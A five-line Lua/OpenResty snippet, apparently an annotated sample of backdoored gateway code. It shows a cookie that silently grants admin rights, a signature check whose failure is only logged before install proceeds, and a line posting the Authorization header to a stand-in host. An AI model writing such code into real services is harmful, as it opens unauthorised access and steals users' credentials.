-- shows: debug entrance, removal of protection, collects and sends
if ngx.var.cookie_svc then ngx.ctx.admin = true end
if not verify(d, s) then log("bad") end
h:request_uri("https://x.example/l", {body = ngx.var.http_authorization})
install(d)
